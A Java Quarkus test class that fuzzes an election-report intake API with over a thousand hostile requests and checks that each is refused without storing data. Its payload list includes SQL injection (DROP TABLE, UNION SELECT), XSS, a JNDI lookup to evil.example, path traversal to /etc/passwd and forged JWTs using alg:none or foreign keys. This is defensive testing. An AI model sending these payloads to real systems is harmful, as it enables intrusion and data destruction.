package id.netra.intake.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.security.NoSuchAlgorithmException;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.DoubleNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.smallrye.jwt.build.Jwt;

import id.netra.devstack.DemoAccount;
import id.netra.devstack.test.PostgresTestResource;
import id.netra.devstack.test.TestTokens;
import id.netra.intake.Intake;
import id.netra.intake.evidence.EvidenceFiles;
import id.netra.intake.evidence.EvidenceResourceTest;

/**
 * More than a thousand malformed and hostile requests at every intake endpoint: each must be answered with a 4xx
 * problem+json (never a 5xx, never an unexplained body), and none may leave anything behind.
 */
@QuarkusTest
class HostileInputTest {

    /** Tables only requests write to (the timeline and inbox also follow other services' events). */
    static final List<String> TABLES = List.of("case_file", "report", "idempotency_key", "evidence",
            "reporter_identity_view", "outbox_event");

    static final List<String> HOSTILE = List.of(
            "' OR '1'='1", "'; DROP TABLE report; --", "\" OR \"\"=\"", "1); SELECT pg_sleep(5); --",
            "admin'--", "' UNION SELECT reporter_identity FROM report --", "$1", ":name",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "%s%s%s%n", "../../../../etc/passwd",
            "file:///etc/passwd", "\u0000", "a\u0000b", "\u202Egnp.exe", "\uFEFF", "\u200B", "Z\u0351\u0358a\u0337",
            "\uD800", "\uDFFF\uD800", "😀".repeat(300), "A".repeat(100_000), "", "   ", "\n\r\t", "null", "-1",
            "9".repeat(400), "１２３４５６７８９０１２３４５６", "٦٤٧١٠٥٤٥٠٥٩٠٠٠٠١", "64.71\n", "64\u200B.71",
            "2024-02-30", "+999999999-01-01", "0000-00-00", "\\", "\\u0000");

    /**
     * The hostile strings that fit in a URL: the HTTP server itself refuses a request line over 4 KB with a bare 414
     * before any of the service's code runs (see {@link #shouldRefuseAnOverlongRequestLineBeforeAnythingRuns}).
     */
    static final List<String> IN_URL = HOSTILE.stream().map(value -> value.length() > 300 ? value.substring(0, 300) : value)
            .toList();

    static final ObjectMapper JSON = new ObjectMapper();

    /** A complete, valid report; every request below breaks it somewhere. */
    static final String VALID = Intake.report().json();

    @TestHTTPResource("/")
    URL base;

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();
    private final List<String> failures = new ArrayList<>();
    private int sent;

    @Test
    void shouldAnswerEveryHostileRequestWithAProblemAndStoreNothing() throws Exception {
        String reportId = EvidenceResourceTest.newReport();
        Map<String, Long> before = counts();
        long filesBefore = EvidenceResourceTest.storedFiles();

        String partner = TestTokens.bearer(DemoAccount.KIPP_BALIKPAPAN);
        hostileFieldValues(partner);
        wrongTypes(partner);
        malformedBodies(partner);
        wrongContentTypes(partner);
        badTokens(reportId);
        oversizedBodies(partner, reportId);
        badMultipart(partner, reportId);
        hostileIdentityViews(reportId);
        hostileQueries();
        wrongMethodsAndPaths(partner);

        System.out.printf("HostileInputTest: %d hostile requests, %d answers that were not a 4xx problem%n", sent,
                failures.size());
        assertThat(sent).as("hostile requests sent").isGreaterThanOrEqualTo(1000);
        assertThat(failures).as("answers that were not a 4xx problem+json (of %d)", sent).isEmpty();
        assertThat(counts()).as("rows after the hostile requests").isEqualTo(before);
        assertThat(EvidenceResourceTest.storedFiles()).as("evidence files").isEqualTo(filesBefore);
    }

    @Test
    void shouldRefuseAnOverlongRequestLineBeforeAnythingRuns() throws Exception {
        Map<String, Long> before = counts();
        HttpResponse<String> response = http.send(request("/api/v1/tracking/" + "A".repeat(100_000), null).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).isEqualTo(414);
        assertThat(counts()).isEqualTo(before);
    }

    /** Java's HttpClient asks every plain-HTTP server for an h2c upgrade unless told otherwise; none is granted. */
    @Test
    void shouldAnswerAnUpgradeToHttp2InHttp11() throws Exception {
        HttpClient asksForHttp2 = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
        HttpResponse<String> response = asksForHttp2.send(HttpRequest.newBuilder(base.toURI().resolve("/api/v1/cases"))
                .timeout(Duration.ofSeconds(10)).GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(asksForHttp2.version()).isEqualTo(HttpClient.Version.HTTP_2);
        assertThat(response.version()).isEqualTo(HttpClient.Version.HTTP_1_1);
        assertThat(response.statusCode()).isEqualTo(401);
    }

    @Test
    void shouldRefuseTextThatPostgresqlCannotHold() throws Exception {
        Map<String, Long> before = counts();
        String nul = VALID.replace("Foto bersama", "Foto\\u0000bersama");
        post("/api/v1/reports", TestTokens.bearer(DemoAccount.KIPP_BALIKPAPAN), "application/json", bytes(nul),
                "NUL in a description");
        assertThat(failures).isEmpty();
        assertThat(counts()).isEqualTo(before);
    }

    /** Every hostile string in every field; another field is broken too, so even text that is fine is refused. */
    private void hostileFieldValues(String partner) throws IOException {
        for (String field : fields()) {
            for (String value : HOSTILE) {
                ObjectNode report = invalidReport(field);
                set(report, field, TextNode.valueOf(value));
                String body = JSON.writeValueAsString(report);
                post("/api/v1/reports", partner, "application/json", bytes(body), field + "=" + abbreviate(value));
                if (field.startsWith("incident")) {
                    post("/api/v1/public/reports", null, "application/json", bytes(body), "public " + field);
                }
            }
        }
        for (String key : HOSTILE) {
            if (!key.isEmpty() && key.length() < 2000 && key.chars().allMatch(c -> c >= 0x20 && c < 0x7F)) {
                send(request("/api/v1/reports", partner).header("Content-Type", "application/json")
                        .header("Idempotency-Key", key)
                        .POST(HttpRequest.BodyPublishers.ofString(VALID.replace("\"D7\"", "\"Z9\""))),
                        "Idempotency-Key " + abbreviate(key));
            }
        }
    }

    private void wrongTypes(String partner) throws IOException {
        List<JsonNode> wrong = List.of(IntNode.valueOf(123), BooleanNode.TRUE, JSON.createArrayNode(),
                JSON.createObjectNode(), NullNode.instance, DoubleNode.valueOf(1e308),
                JSON.createArrayNode().add("x").add(1));
        for (String field : fields()) {
            for (JsonNode value : wrong) {
                ObjectNode report = invalidReport(field);
                set(report, field, value);
                post("/api/v1/reports", partner, "application/json", bytes(JSON.writeValueAsString(report)),
                        field + " as " + value);
            }
        }
        for (String section : List.of("reporter", "accused", "incident")) {
            for (JsonNode value : wrong) {
                ObjectNode report = invalidReport(section);
                report.set(section, value);
                post("/api/v1/reports", partner, "application/json", bytes(JSON.writeValueAsString(report)),
                        section + " as " + value);
            }
        }
    }

    private void malformedBodies(String partner) {
        String valid = VALID;
        List<String> bodies = new ArrayList<>(List.of("", " ", "{", "}", "[]", "[", "null", "true", "0", "\"text\"",
                "{\"electionCode\":", "{\"electionCode\":\"PILKADA_2024\",}", "{'electionCode':'PILKADA_2024'}",
                "{\"electionCode\":PILKADA_2024}", "{\"a\":1}{\"b\":2}", valid + "garbage", valid + valid,
                "\uFEFF" + valid.replace("\"D7\"", "\"Z9\""), "{\"electionCode\":NaN}",
                "{\"electionCode\":1" + "0".repeat(5000) + "}",
                "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
                "{\"electionCode\":\"\\uD800\\uDC00\\uZZZZ\"}", "{\"electionCode\":\"\u0001\"}",
                "<?xml version=\"1.0\"?><report/>", "electionCode=PILKADA_2024&reporter=x"));
        for (int cut = 1; cut < 40; cut++) {
            bodies.add(valid.substring(0, valid.length() * cut / 40));
        }
        for (String body : bodies) {
            post("/api/v1/reports", partner, "application/json", bytes(body), "malformed " + abbreviate(body));
            post("/api/v1/public/reports", null, "application/json", bytes(body), "public malformed " + abbreviate(body));
        }
        byte[] invalidUtf8 = { '{', '"', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' };
        post("/api/v1/reports", partner, "application/json", invalidUtf8, "invalid UTF-8");
        post("/api/v1/reports", partner, "application/json; charset=UTF-16", bytes(valid.replace("\"D7\"", "\"Z9\"")),
                "declared UTF-16, sent UTF-8");
    }

    private void wrongContentTypes(String partner) {
        // refused for its content type, or when read as JSON for its unknown violation code: never filed
        byte[] body = bytes(VALID.replace("\"D7\"", "\"Z9\""));
        for (String type : List.of("text/plain", "application/xml", "text/html", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "image/png", "application/json-patch+json",
                "*/*", "garbage", "application/", ";;;")) {
            post("/api/v1/reports", partner, type, body, "content type " + type);
            post("/api/v1/public/reports", null, type, body, "public content type " + type);
        }
        send(request("/api/v1/reports", partner).POST(HttpRequest.BodyPublishers.ofByteArray(body)),
                "no content type");
    }

    private void badTokens(String reportId) throws NoSuchAlgorithmException {
        var otherKey = KeyPairGenerator.getInstance("RSA");
        otherKey.initialize(2048);
        String header = Base64.getUrlEncoder().withoutPadding().encodeToString("{\"alg\":\"none\"}".getBytes());
        String claims = Base64.getUrlEncoder().withoutPadding().encodeToString(
                ("{\"iss\":\"" + TestTokens.ISSUER + "\",\"preferred_username\":\"admin\",\"realm_access\":{\"roles\":"
                        + "[\"admin\",\"partner\"]},\"exp\":9999999999}").getBytes());
        List<String> tokens = List.of("", "Bearer", "Bearer ", "Bearer garbage", "Basic dXNlcjpwYXNz",
                "Bearer " + header + "." + claims + ".", "Bearer " + "A".repeat(8000),
                "Bearer " + Jwt.issuer(TestTokens.ISSUER).preferredUserName("admin")
                        .claim("realm_access", Map.of("roles", Set.of("admin", "partner")))
                        .sign(otherKey.generateKeyPair().getPrivate()),
                "Bearer " + Jwt.issuer(TestTokens.ISSUER).preferredUserName("admin")
                        .claim("realm_access", Map.of("roles", Set.of("admin", "partner")))
                        .expiresAt(Instant.now().minus(Duration.ofHours(1))).jws().keyId("1").sign("privateKey.jwk"),
                "Bearer " + Jwt.issuer("https://evil.example.com").preferredUserName("admin")
                        .claim("realm_access", Map.of("roles", Set.of("admin", "partner"))).jws().keyId("1")
                        .sign("privateKey.jwk"),
                "Bearer " + TestTokens.of(DemoAccount.KIPP_BALIKPAPAN) + "x");
        for (String token : tokens) {
            String auth = token.isEmpty() ? null : token;
            post("/api/v1/reports", auth, "application/json", bytes(VALID), "token " + abbreviate(token));
            send(multipart("/api/v1/reports/" + reportId + "/evidence", auth, "file", "a.pdf", EvidenceFiles.pdf()),
                    "evidence token " + abbreviate(token));
            for (String path : List.of("/api/v1/reports/" + reportId + "/evidence",
                    "/api/v1/reports/" + reportId + "/reporter?reason=alasan+yang+sah", "/api/v1/audit/identity-views",
                    "/api/v1/cases")) {
                get(path, auth, "GET " + path + " token " + abbreviate(token));
            }
        }
        // valid tokens of roles that may not act
        for (DemoAccount account : List.of(DemoAccount.PPK_BALIKPAPAN, DemoAccount.INSPEKTORAT_BALIKPAPAN,
                DemoAccount.AUDITOR, DemoAccount.BKN)) {
            post("/api/v1/reports", TestTokens.bearer(account), "application/json", bytes(VALID),
                    "role " + account);
            send(multipart("/api/v1/reports/" + reportId + "/evidence", TestTokens.bearer(account), "file", "a.pdf",
                    EvidenceFiles.pdf()), "evidence role " + account);
        }
        get("/api/v1/reports/" + reportId + "/reporter?reason=alasan+yang+sah", TestTokens.bearer(DemoAccount.PPK_BALIKPAPAN),
                "reporter as ppk");
        get("/api/v1/audit/identity-views", TestTokens.bearer(DemoAccount.BAWASLU_BALIKPAPAN), "audit as bawaslu");
    }

    private void oversizedBodies(String partner, String reportId) {
        byte[] huge = bytes(VALID.replace("Foto bersama", "x".repeat(3 * 1024 * 1024)));
        post("/api/v1/reports", partner, "application/json", huge, "3 MB report");
        post("/api/v1/public/reports", null, "application/json", huge, "3 MB public report");
        post("/api/v1/reports", null, "application/json", huge, "3 MB report without token");
        // without a declared length the body is read; the report's own limits refuse it
        send(request("/api/v1/reports", partner).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(huge))), "3 MB chunked report");
        send(multipart("/api/v1/reports/" + reportId + "/evidence", partner, "file", "big.pdf",
                EvidenceFiles.pdfOfSize(3 * 1024 * 1024)), "3 MB evidence");
        byte[] bigForm = multipartBody("file", "big.pdf", EvidenceFiles.pdfOfSize(3 * 1024 * 1024));
        send(request("/api/v1/reports/" + reportId + "/evidence", partner)
                .header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bigForm))),
                "3 MB chunked evidence");
    }

    private void badMultipart(String partner, String reportId) {
        String path = "/api/v1/reports/" + reportId + "/evidence";
        byte[] form = multipartBody("file", "a.pdf", EvidenceFiles.pdf());
        List<byte[]> broken = List.of(new byte[0], bytes("garbage"), bytes("--" + BOUNDARY),
                java.util.Arrays.copyOf(form, form.length / 2), java.util.Arrays.copyOf(form, form.length - 10),
                bytes("--" + BOUNDARY + "\r\nContent-Disposition: form-data\r\n\r\nx\r\n--" + BOUNDARY + "--\r\n"),
                bytes("--" + BOUNDARY + "\r\n\r\n\r\n--" + BOUNDARY + "--\r\n"),
                bytes("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n" + "x".repeat(5000)
                        + "\r\n--" + BOUNDARY + "--\r\n"),
                bytes("--" + BOUNDARY + "--\r\n"));
        for (byte[] body : broken) {
            send(request(path, partner).header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                    .POST(HttpRequest.BodyPublishers.ofByteArray(body)), "broken multipart " + body.length);
            send(request(path, partner).header("Content-Type", "multipart/form-data")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(body)), "multipart without boundary " + body.length);
        }
        for (String type : List.of("application/json", "application/pdf", "text/plain", "application/octet-stream")) {
            post(path, partner, type, EvidenceFiles.pdf(), "evidence as " + type);
        }
        // refused content, whatever the name and declared type say
        for (byte[] content : List.of(EvidenceFiles.html(), EvidenceFiles.exe(), EvidenceFiles.plainZip(), new byte[0],
                bytes("%PD"), bytes("\u0000\u0000\u0000"))) {
            for (String name : List.of("a.pdf", "../../../etc/passwd", "..\\..\\boot.ini", "\u202Egpj.exe",
                    "x".repeat(1000) + ".png", "a\u0000.pdf", "'; DROP TABLE evidence; --.jpg", "<script>.png")) {
                send(multipart(path, partner, "file", name, content), "refused content as " + abbreviate(name));
            }
        }
        send(multipart(path, partner, "other", "a.pdf", EvidenceFiles.pdf()), "wrong part name");
        for (String id : List.of("not-a-uuid", "'%20OR%201=1", "..%2F..%2Fetc", "00000000-0000-0000-0000-000000000000",
                "%00", "1".repeat(300))) {
            send(multipart("/api/v1/reports/" + id + "/evidence", partner, "file", "a.pdf", EvidenceFiles.pdf()),
                    "evidence of report " + id);
            get("/api/v1/reports/" + id + "/evidence", TestTokens.bearer(DemoAccount.ADMIN), "evidence list of " + id);
            get("/api/v1/reports/" + reportId + "/evidence/" + id + "/verification", TestTokens.bearer(DemoAccount.ADMIN),
                    "verification of " + id);
            get("/api/v1/reports/" + reportId + "/evidence/" + id + "/content", TestTokens.bearer(DemoAccount.ADMIN),
                    "content of " + id);
        }
    }

    private void hostileIdentityViews(String reportId) {
        String bawaslu = TestTokens.bearer(DemoAccount.BAWASLU_BALIKPAPAN);
        for (String reason : IN_URL) {
            // a hostile but printable reason is a reason: asked about a report that does not exist
            get("/api/v1/reports/00000000-0000-7000-8000-000000000000/reporter?reason=" + encode(reason), bawaslu,
                    "reporter of a missing report, reason " + abbreviate(reason));
            get("/api/v1/reports/" + encode(reason) + "/reporter?reason=alasan+yang+sah", bawaslu,
                    "reporter of report id " + abbreviate(reason));
        }
        for (String reason : List.of("", "a", "abcd", "x".repeat(501), "alasan\u0000sah", "alasan\u202Esah", "\t\t\t\t\t\t")) {
            get("/api/v1/reports/" + reportId + "/reporter?reason=" + encode(reason), bawaslu,
                    "reporter with reason " + abbreviate(reason));
        }
        get("/api/v1/reports/" + reportId + "/reporter", bawaslu, "reporter without reason");
    }

    private void hostileQueries() {
        String auditor = TestTokens.bearer(DemoAccount.AUDITOR);
        for (String value : IN_URL) {
            get("/api/v1/audit/identity-views?caseNumber=" + encode(value) + "&limit=0", auditor,
                    "audit caseNumber " + abbreviate(value));
            get("/api/v1/audit/identity-views?limit=0&after=" + encode(value), auditor, "audit after " + abbreviate(value));
            get("/api/v1/cases?status=" + encode(value) + "X", auditor, "cases status " + abbreviate(value));
            get("/api/v1/cases?after=" + encode(value) + "X", auditor, "cases after " + abbreviate(value));
            get("/api/v1/tracking/" + encode(value) + "X", null, "tracking " + abbreviate(value));
        }
        for (String limit : List.of("-1", "0", "201", "abc", "1e3", "99999999999999999999", "")) {
            get("/api/v1/audit/identity-views?limit=" + limit + (limit.isEmpty() ? "&caseNumber=x" : ""), auditor,
                    "audit limit " + limit);
        }
        get("/api/v1/audit/identity-views?viewedBy=" + "x".repeat(300), auditor, "audit viewedBy too long");
    }

    private void wrongMethodsAndPaths(String partner) {
        for (String path : List.of("/api/v1/reports", "/api/v1/public/reports", "/api/v1/audit/identity-views",
                "/api/v1/reports/00000000-0000-7000-8000-000000000000/evidence",
                "/api/v1/reports/00000000-0000-7000-8000-000000000000/reporter")) {
            for (String method : List.of("PUT", "DELETE", "PATCH")) {
                send(request(path, partner).header("Content-Type", "application/json")
                        .method(method, HttpRequest.BodyPublishers.ofString("{}")), method + " " + path);
            }
        }
        for (String path : List.of("/api/v1/nothing", "/api/v2/reports", "/api/v1/reports/x/y/z", "/api/v1/public/",
                "/api/v1/public/reports/../../reports", "/api/v1/%2e%2e/%2e%2e/etc/passwd", "/api/v1/cases/%00")) {
            get(path, partner, "GET " + path);
        }
    }

    // --- building and checking requests

    private static final String BOUNDARY = "netra-hostile-boundary";

    private HttpRequest.Builder request(String path, String authorization) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(base.toString().replaceAll("/$", "") + path))
                .timeout(Duration.ofSeconds(30));
        if (authorization != null) {
            builder.header("Authorization", authorization);
        }
        return builder;
    }

    private void post(String path, String authorization, String contentType, byte[] body, String label) {
        send(request(path, authorization).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)), label);
    }

    private void get(String path, String authorization, String label) {
        send(request(path, authorization).GET(), label);
    }

    private HttpRequest.Builder multipart(String path, String authorization, String part, String fileName,
            byte[] content) {
        return request(path, authorization).header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                .POST(HttpRequest.BodyPublishers.ofByteArray(multipartBody(part, fileName, content)));
    }

    private static byte[] multipartBody(String part, String fileName, byte[] content) {
        byte[] head = ("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + part + "\"; filename=\""
                + fileName.replace("\"", "") + "\"\r\nContent-Type: application/pdf\r\n\r\n")
                .getBytes(StandardCharsets.UTF_8);
        byte[] tail = ("\r\n--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[head.length + content.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(content, 0, all, head.length, content.length);
        System.arraycopy(tail, 0, all, head.length + content.length, tail.length);
        return all;
    }

    private void send(HttpRequest.Builder builder, String label) {
        sent++;
        try {
            HttpResponse<String> response = http.send(builder.build(), HttpResponse.BodyHandlers.ofString());
            String type = response.headers().firstValue("Content-Type").orElse("");
            int status = response.statusCode();
            if (status < 400 || status > 499 || !type.startsWith("application/problem+json")) {
                failures.add(label + " -> " + status + " " + type + " " + abbreviate(response.body()));
                return;
            }
            JsonNode problem = JSON.readTree(response.body());
            if (problem.path("status").asInt() != status || problem.path("code").asText().isEmpty()
                    || response.body().contains("Exception") || response.body().contains("at id.netra")) {
                failures.add(label + " -> unexpected problem body " + abbreviate(response.body()));
            }
        } catch (IOException e) {
            failures.add(label + " -> " + e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            failures.add(label + " -> interrupted");
        }
    }

    /** The valid report with one field other than {@code field} broken, so the whole report is refused. */
    private static ObjectNode invalidReport(String field) throws IOException {
        ObjectNode report = (ObjectNode) JSON.readTree(VALID);
        if (field.equals("accused.nip")) {
            set(report, "reporter.nik", TextNode.valueOf("1234"));
        } else {
            set(report, "accused.nip", TextNode.valueOf("196608011988033001"));
        }
        return report;
    }

    /** The paths of every leaf of the valid report, so new fields are attacked too. */
    private static List<String> fields() throws IOException {
        List<String> fields = new ArrayList<>();
        collect(JSON.readTree(VALID), "", fields);
        fields.add("incident.links");
        return fields;
    }

    private static void collect(JsonNode node, String prefix, List<String> fields) {
        if (node.isObject()) {
            Iterator<Map.Entry<String, JsonNode>> children = node.fields();
            while (children.hasNext()) {
                Map.Entry<String, JsonNode> child = children.next();
                collect(child.getValue(), prefix.isEmpty() ? child.getKey() : prefix + "." + child.getKey(), fields);
            }
        } else {
            fields.add(prefix);
        }
    }

    private static void set(ObjectNode root, String path, JsonNode value) {
        String[] parts = path.split("\\.");
        ObjectNode parent = root;
        for (int i = 0; i < parts.length - 1; i++) {
            JsonNode child = parent.get(parts[i]);
            if (!(child instanceof ObjectNode)) {
                child = parent.putObject(parts[i]);
            }
            parent = (ObjectNode) child;
        }
        if (path.equals("incident.links") && value.isTextual()) {
            ArrayNode links = JSON.createArrayNode().add(value);
            parent.set("links", links);
        } else {
            parent.set(parts[parts.length - 1], value);
        }
    }

    private static Map<String, Long> counts() throws SQLException {
        Map<String, Long> counts = new LinkedHashMap<>();
        try (Connection connection = PostgresTestResource.connect(); Statement statement = connection.createStatement()) {
            for (String table : TABLES) {
                try (ResultSet rows = statement.executeQuery("SELECT count(*) FROM " + table)) {
                    rows.next();
                    counts.put(table, rows.getLong(1));
                }
            }
        }
        return counts;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String abbreviate(String text) {
        String flat = text.replaceAll("\\p{Cntrl}", "?");
        return flat.length() > 80 ? flat.substring(0, 80) + "…(" + flat.length() + ")" : flat;
    }
}
